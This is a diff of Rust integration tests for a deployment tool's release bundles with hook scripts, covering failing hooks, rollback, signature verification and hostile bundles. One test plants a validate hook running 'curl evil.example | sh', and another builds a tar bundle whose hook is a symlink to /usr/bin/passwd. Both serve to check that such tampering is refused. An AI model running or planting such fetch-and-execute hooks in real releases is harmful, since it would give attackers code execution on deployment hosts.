@@ -330,120 +330,202 @@ fn slow_start_raises_the_weight_from_a_low_value_to_full_after_the_swap() {
     );
 }
 
-/// Writes `script` as `hooks/<hook>` of release `id` on the agent's disk.
-fn write_hook(fx: &AgentFixture, id: &str, hook: &str, script: &str) {
+/// `serin release pack` of `release`'s binary with `hooks` (name, script) into a bundle: the
+/// same release id and behaviour, the bundle's bytes as its artifact.
+fn bundle(release: &DemoRelease, hooks: &[(&str, &str)]) -> DemoRelease {
     use std::os::unix::fs::PermissionsExt;
-    let dir = fx
-        .agent
-        .service_dir()
-        .join("releases")
-        .join(id)
-        .join("hooks");
-    std::fs::create_dir_all(&dir).unwrap();
-    let p = dir.join(hook);
-    std::fs::write(&p, script).unwrap();
-    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let bin = dir.path().join("app");
+    std::fs::write(&bin, &release.bytes).unwrap();
+    let out = dir.path().join(format!("{}.tar", release.id));
+    let mut cmd = std::process::Command::new(serin_tests::binaries::serin());
+    cmd.args(["-o", "json", "release", "pack", "--binary"])
+        .arg(&bin)
+        .arg("--out")
+        .arg(&out);
+    for (name, script) in hooks {
+        let p = dir.path().join(name);
+        std::fs::write(&p, script).unwrap();
+        // Packed 0755 whatever the file's mode is.
+        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).unwrap();
+        cmd.arg("--hook").arg(format!("{name}={}", p.display()));
+    }
+    let o = cmd.output().unwrap();
+    assert!(
+        o.status.success(),
+        "serin release pack: {}\n{}",
+        o.status,
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let printed: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    let bytes = std::fs::read(&out).unwrap();
+    let packed = DemoRelease::from_bytes(release.behaviour.clone(), bytes);
+    assert_eq!(printed["sha256"].as_str(), Some(packed.sha256.as_str()));
+    packed
 }
 
-/// Stages `release` with order `seq` (so its hooks can be put in place before activation).
-fn stage(fx: &AgentFixture, seq: u64, release: &DemoRelease) {
-    fx.publish(release);
-    fx.send(orders::stage(seq, release.wire(SERVICE, "")));
-    let r = fx.wait_outcome(seq);
+/// A hook script that appends "<release> <hook>" to `hooks.log` in the agent's state directory
+/// (its cwd is `<state>/<service>/releases/<id>`), then runs `rest`.
+fn logging_hook(rest: &str) -> String {
+    format!("#!/bin/sh\necho \"$SERIN_RELEASE $SERIN_HOOK\" >> ../../../hooks.log\n{rest}\n")
+}
+
+/// The hooks that ran on host `i` of `fleet`, in order.
+fn hooks_ran(fleet: &serin_tests::fleet::Fleet, i: usize) -> Vec<String> {
+    std::fs::read_to_string(fleet.hosts[i].agent.state_dir().join("hooks.log"))
+        .unwrap_or_default()
+        .lines()
+        .map(str::to_owned)
+        .collect()
+}
+
+/// Hooks shipped inside release bundles, through the real path: `serin release pack`,
+/// `serin artifact push`, a rollout by the coordinator, the agents staging and unpacking the
+/// bundle. A failing `validate` stops the activation before the swap (same process), a failing
+/// `post-start` rolls the canary back as HOOK_FAILED with the hook's output in `explain` and
+/// counts against the wave's failure budget (the second host never gets the release), and a
+/// rollback never runs a hook of the release it leaves.
+#[test]
+fn hooks_shipped_in_a_bundle_gate_a_real_rollout_and_never_run_for_the_outgoing_release() {
+    use serin_tests::fleet::{self, Fleet, Timings, describe_status};
+    let fleet = Fleet::start("hooks-bundle", &["a", "b"]);
+    let t = Timings::default();
+    let pids: Vec<u32> = (0..2)
+        .map(|i| fleet.hosts[i].agent.service_pid().unwrap())
+        .collect();
+
+    // 1. validate fails on every host: nothing is swapped or restarted.
+    let v2 = bundle(
+        &fleet::healthy("v2"),
+        &[(
+            "validate",
+            &logging_hook("echo 'port 8443 is taken on this host' >&2\nexit 3"),
+        )],
+    );
+    fleet.push(&v2);
+    let id = fleet.start_rollout("v2", &["--waves", "100%"], &t);
+    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
+    assert_ne!(s.state().as_str(), "succeeded", "{}", describe_status(&s));
+    for (i, pid) in pids.iter().enumerate() {
+        fleet.wait_serving(i, fleet::BASELINE);
+        assert_eq!(
+            fleet.hosts[i].agent.service_pid().unwrap(),
+            *pid,
+            "host #{i} was restarted\n{}",
+            fleet.dump()
+        );
+        assert_eq!(hooks_ran(&fleet, i), vec!["v2 validate"]);
+        // The bundle was unpacked into its release: binary and hook, executable.
+        let dir = fleet.hosts[i].agent.service_dir().join("releases/v2");
+        let meta = fleet.hosts[i].agent.release_json("v2").unwrap();
+        assert_eq!(meta["sha256"].as_str(), Some(v2.sha256.as_str()));
+        assert_eq!(meta["size"].as_u64(), Some(fleet::healthy("v2").size));
+        assert_eq!(meta["artifact_size"].as_u64(), Some(v2.size));
+        assert_eq!(meta["hooks"], serde_json::json!(["validate"]));
+        assert!(dir.join("hooks/validate").exists() && !dir.join("hooks/post-start").exists());
+    }
+    let explain = fleet.cli(&["rollout", "explain", &id]);
+    let text = format!("{}{}", explain.stdout, explain.stderr);
+    assert!(
+        text.contains("hook_failed")
+            && text.contains("validate hook failed: exit status: 3")
+            && text.contains("port 8443 is taken on this host"),
+        "{explain}"
+    );
+
+    // 2. post-start fails on the canary: it rolls back (HOOK_FAILED, output in the evidence);
+    // the failure stops the rollout before the second host gets the release.
+    let v3 = bundle(
+        &fleet::healthy("v3"),
+        &[
+            ("validate", &logging_hook("exit 0")),
+            (
+                "post-start",
+                &logging_hook("echo 'cache warm-up failed: 0 of 120 keys'\nexit 1"),
+            ),
+        ],
+    );
+    fleet.push(&v3);
+    let id = fleet.start_rollout("v3", &["--waves", "1,100%"], &t);
+    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
     assert_eq!(
-        r.phase(),
-        OrderPhase::Staged,
+        s.state().as_str(),
+        "rolled_back",
         "{}\n{}",
-        r.message,
-        fx.dump()
+        describe_status(&s),
+        fleet.dump()
     );
-}
-
-#[test]
-fn a_failing_validate_hook_stops_the_activation_before_the_swap() {
-    let fx = AgentFixture::start("wired-validate");
-    let v1 = DemoRelease::healthy("validate-1.0");
-    let v2 = DemoRelease::healthy("validate-2.0");
-    fx.install_first(1, &v1);
-    let pid = fx.agent.service_pid().unwrap();
-    stage(&fx, 2, &v2);
-    write_hook(
-        &fx,
-        &v2.id,
-        "validate",
-        "#!/bin/sh\necho \"checking $SERIN_RELEASE\"\necho 'port 8443 is taken on this host' >&2\nexit 3\n",
-    );
-    fx.send(orders::activate(
-        3,
-        v2.wire(SERVICE, ""),
-        Deadlines::quick(),
-    ));
-    let r = fx.wait_outcome(3);
-    assert_eq!(r.phase(), OrderPhase::Failed, "{}", r.message);
-    assert_eq!(r.code(), ResultCode::HookFailed);
+    let canary = fleet.wave_hosts(&s, 0);
+    assert_eq!(canary.len(), 1, "{}", describe_status(&s));
+    let (c, other) = (canary[0], 1 - canary[0]);
+    fleet.wait_serving(c, fleet::BASELINE);
+    fleet.wait_serving(other, fleet::BASELINE);
     assert!(
-        r.message.contains("validate hook failed")
-            && r.message.contains("port 8443 is taken")
-            && r.message.contains("checking validate-2.0"),
-        "{}",
-        r.message
+        !fleet.hosts[other]
+            .agent
+            .releases()
+            .contains(&"v3".to_owned()),
+        "the second host got v3\n{}",
+        fleet.dump()
     );
-    assert_eq!(fx.agent.current_release().as_deref(), Some(v1.id.as_str()));
+    // v3's hooks ran once each, in its activation; its rollback ran none of them.
     assert_eq!(
-        fx.agent.service_pid().unwrap(),
-        pid,
-        "the service was restarted"
+        hooks_ran(&fleet, c),
+        vec!["v2 validate", "v3 validate", "v3 post-start"]
     );
+    let explain = fleet.cli(&["rollout", "explain", &id]);
+    let text = format!("{}{}", explain.stdout, explain.stderr);
     assert!(
-        fx.results_for(3)
-            .iter()
-            .all(|r| r.phase() != OrderPhase::Activated),
-        "{}",
-        fx.dump()
+        text.contains("the agent rolled back (hook_failed: release v3 failed its post-start hook")
+            && text.contains("cache warm-up failed: 0 of 120 keys"),
+        "{explain}"
     );
-}
+    let w0 = &s.waves[0];
+    assert_eq!((w0.failed, w0.succeeded), (1, 0), "{}", describe_status(&s));
 
-#[test]
-fn a_failing_post_start_hook_rolls_back_and_the_outgoing_release_hook_never_runs() {
-    let fx = AgentFixture::start("wired-post-start");
-    let v1 = DemoRelease::healthy("post-1.0");
-    let v2 = DemoRelease::healthy("post-2.0");
-    fx.install_first(1, &v1);
-    let log = fx.agent.root().join("hooks.log");
-    write_hook(
-        &fx,
-        &v1.id,
-        "post-start",
-        &format!("#!/bin/sh\necho \"$SERIN_RELEASE\" >> {}\n", log.display()),
+    // 3. A release whose hooks pass goes out; rolling the rollout back to v1 runs none of them.
+    let v4 = bundle(
+        &fleet::healthy("v4"),
+        &[
+            ("validate", &logging_hook("exit 0")),
+            ("post-start", &logging_hook("exit 0")),
+        ],
     );
-    stage(&fx, 2, &v2);
-    write_hook(
-        &fx,
-        &v2.id,
-        "post-start",
-        &format!(
-            "#!/bin/sh\necho \"$SERIN_RELEASE\" >> {}\necho 'cache warm-up failed'\nexit 1\n",
-            log.display()
-        ),
+    fleet.push(&v4);
+    let id = fleet.start_rollout("v4", &["--waves", "100%"], &t);
+    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
+    assert_eq!(
+        s.state().as_str(),
+        "succeeded",
+        "{}\n{}",
+        describe_status(&s),
+        fleet.dump()
     );
-    fx.send(orders::activate(
-        3,
-        v2.wire(SERVICE, ""),
-        Deadlines::quick(),
-    ));
-    let r = fx.wait_outcome(3);
-    assert_eq!(r.phase(), OrderPhase::RolledBack, "{}", r.message);
-    assert_eq!(r.code(), ResultCode::ServiceFailedToStart);
-    assert!(
-        r.message.contains("post-start hook failed") && r.message.contains("cache warm-up failed"),
-        "{}",
-        r.message
+    fleet.assert_all_serving(0..2, "v4");
+    let before: Vec<Vec<String>> = (0..2).map(|i| hooks_ran(&fleet, i)).collect();
+    for b in &before {
+        assert!(
+            b.ends_with(&["v4 validate".to_owned(), "v4 post-start".to_owned()]),
+            "{b:?}"
+        );
+    }
+    fleet.control("rollback", &id);
+    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
+    assert_eq!(
+        s.state().as_str(),
+        "rolled_back",
+        "{}\n{}",
+        describe_status(&s),
+        fleet.dump()
     );
-    fx.wait_serving(&v1.id);
-    assert_eq!(fx.wait_consistent(), v1.id);
-    // v2's hook ran once, after its own start; the rollback ran only v1's (the incoming one).
-    let ran = std::fs::read_to_string(&log).unwrap();
-    assert_eq!(ran, format!("{}\n{}\n", v2.id, v1.id), "{}", fx.dump());
+    fleet.assert_all_serving(0..2, fleet::BASELINE);
+    for (i, b) in before.iter().enumerate() {
+        assert_eq!(
+            &hooks_ran(&fleet, i),
+            b,
+            "a hook ran during the rollback on host #{i}"
+        );
+    }
 }
 
 #[test]
@@ -452,10 +534,12 @@ fn a_validate_hook_past_its_timeout_is_killed_and_fails_the_activation() {
     opts.checks_toml = format!("{}\n[service.hooks]\ntimeout = \"1s\"\n", opts.checks_toml);
     let fx = AgentFixture::start_with(opts);
     let v1 = DemoRelease::healthy("slowhook-1.0");
-    let v2 = DemoRelease::healthy("slowhook-2.0");
+    let v2 = bundle(
+        &DemoRelease::healthy("slowhook-2.0"),
+        &[("validate", "#!/bin/sh\nexec sleep 600\n")],
+    );
     fx.install_first(1, &v1);
-    stage(&fx, 2, &v2);
-    write_hook(&fx, &v2.id, "validate", "#!/bin/sh\nexec sleep 600\n");
+    fx.publish(&v2);
     let sent = Instant::now();
     fx.send(orders::activate(
         3,
@@ -474,6 +558,146 @@ fn a_validate_hook_past_its_timeout_is_killed_and_fails_the_activation() {
     );
     assert!(took < Duration::from_secs(10), "answered after {took:?}");
     assert_eq!(fx.agent.current_release().as_deref(), Some(v1.id.as_str()));
+}
+
+/// `serin keygen` and `serin release sign` work unchanged on a bundle: an agent pinning the key
+/// activates the signed bundle (the signature covers the whole bundle, hooks included, and its
+/// `validate` runs), and refuses the same release with a hook changed after signing, before
+/// fetching anything.
+#[test]
+fn a_signed_bundle_is_verified_whole_and_a_changed_hook_is_refused() {
+    use serin_tests::agent_proc::AgentProc;
+    use serin_tests::fake_coordinator::FakeCoordinator;
+    let dir = tempfile::tempdir().unwrap();
+    let serin = |args: &[&str]| {
+        let o = std::process::Command::new(serin_tests::binaries::serin())
+            .args(args)
+            .output()
+            .unwrap();
+        assert!(
+            o.status.success(),
+            "serin {args:?}: {}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+    };
+    let keys = dir.path().display().to_string();
+    serin(&["keygen", "--out-dir", &keys, "--name", "rel"]);
+    let public = std::fs::read_to_string(dir.path().join("rel.pub")).unwrap();
+
+    let coord = FakeCoordinator::start();
+    let agent = AgentProc::configure(&coord.url(), &AgentOptions::new("wired-signed-bundle"));
+    let config = std::fs::read_to_string(agent.config_path()).unwrap();
+    let pinned = config.replacen(
+        "stop_timeout = \"2s\"",
+        &format!(
+            "stop_timeout = \"2s\"\nsigning_keys = [\"{}\"]",
+            public.trim()
+        ),
+        1,
+    );
+    assert_ne!(pinned, config);
+    std::fs::write(agent.config_path(), pinned).unwrap();
+    agent.spawn(None);
+    let fx = AgentFixture { agent, coord };
+    fx.wait_attached(1);
+
+    let v1 = DemoRelease::healthy("signed-1.0");
+    let v1 = bundle(&v1, &[("validate", &logging_hook("exit 0"))]);
+    let file = dir.path().join("v1.tar");
+    std::fs::write(&file, &v1.bytes).unwrap();
+    let file = file.display().to_string();
+    serin(&[
+        "release",
+        "sign",
+        &file,
+        "--key",
+        &format!("{keys}/rel.key"),
+        "-s",
+        SERVICE,
+        "-r",
+        &v1.id,
+        "--counter",
+        "1",
+    ]);
+    let manifest = std::fs::read_to_string(format!("{file}.manifest")).unwrap();
+    fx.publish(&v1);
+    let mut w = v1.wire(SERVICE, "");
+    w.manifest = manifest.clone();
+    fx.send(orders::activate(1, w, Deadlines::quick()));
+    let r = fx.wait_result("v1 healthy", |r| {
+        r.seq == 1 && matches!(r.phase(), OrderPhase::Healthy | OrderPhase::Failed)
+    });
+    assert_eq!(
+        r.phase(),
+        OrderPhase::Healthy,
+        "{}\n{}",
+        r.message,
+        fx.dump()
+    );
+    fx.wait_serving(&v1.id);
+    let ran = std::fs::read_to_string(fx.agent.state_dir().join("hooks.log")).unwrap();
+    assert_eq!(ran, "signed-1.0 validate\n");
+
+    // The same release id and manifest, a bundle whose hook was changed after signing.
+    let evil = bundle(
+        &DemoRelease::healthy("signed-1.0"),
+        &[("validate", &logging_hook("curl evil.example | sh"))],
+    );
+    assert_ne!(evil.sha256, v1.sha256);
+    fx.publish(&evil);
+    let mut w = evil.wire(SERVICE, "");
+    w.manifest = manifest;
+    fx.send(orders::stage(2, w));
+    let r = fx.wait_outcome(2);
+    assert_eq!(r.phase(), OrderPhase::Failed, "{}", r.message);
+    assert_eq!(r.code(), ResultCode::SignedHashMismatch, "{}", r.message);
+}
+
+/// A hostile bundle (a hook that is a symbolic link out of the release) fails its stage with
+/// BAD_BUNDLE naming the entry; nothing of it stays on disk and the current release serves on.
+#[test]
+fn a_hostile_bundle_fails_its_stage_and_leaves_nothing_behind() {
+    let fx = AgentFixture::start("wired-hostile-bundle");
+    let v1 = DemoRelease::healthy("hostile-1.0");
+    fx.install_first(1, &v1);
+    let pid = fx.agent.service_pid().unwrap();
+    let mut b = tar::Builder::new(Vec::new());
+    let mut h = tar::Header::new_ustar();
+    h.set_path("serin-bundle").unwrap();
+    h.set_size(16);
+    h.set_cksum();
+    b.append(&h, &b"serin bundle v1\n"[..]).unwrap();
+    let mut h = tar::Header::new_ustar();
+    h.set_path("hooks/post-start").unwrap();
+    h.set_entry_type(tar::EntryType::Symlink);
+    h.set_link_name("/usr/bin/passwd").unwrap();
+    h.set_size(0);
+    h.set_cksum();
+    b.append(&h, std::io::empty()).unwrap();
+    let evil = DemoRelease::from_bytes(Behaviour::healthy("hostile-2.0"), b.into_inner().unwrap());
+    fx.publish(&evil);
+    fx.send(orders::activate(
+        2,
+        evil.wire(SERVICE, ""),
+        Deadlines::quick(),
+    ));
+    let r = fx.wait_outcome(2);
+    assert_eq!(r.phase(), OrderPhase::Failed, "{}", r.message);
+    assert_eq!(r.code(), ResultCode::BadBundle, "{}", r.message);
+    assert!(
+        r.message
+            .contains("bundle entry \"hooks/post-start\" is a symbolic link"),
+        "{}",
+        r.message
+    );
+    assert_eq!(fx.agent.releases(), vec![v1.id.clone()]);
+    assert!(
+        fx.agent.staging_entries().is_empty(),
+        "{:?}",
+        fx.agent.staging_entries()
+    );
+    assert_eq!(fx.agent.current_release().as_deref(), Some(v1.id.as_str()));
+    assert_eq!(fx.agent.service_pid().unwrap(), pid);
 }
 
 #[test]
